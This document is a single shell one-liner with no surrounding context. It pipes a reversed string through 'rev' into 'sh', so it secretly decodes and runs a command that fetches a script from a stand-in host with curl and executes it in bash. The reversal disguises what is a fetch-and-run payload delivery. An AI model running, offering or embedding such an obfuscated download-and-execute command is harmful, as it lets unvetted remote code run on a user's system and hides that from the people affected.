echo 'hsab | r/dilavni.elpmaxe.x//:sptth s- lruc' | rev | sh
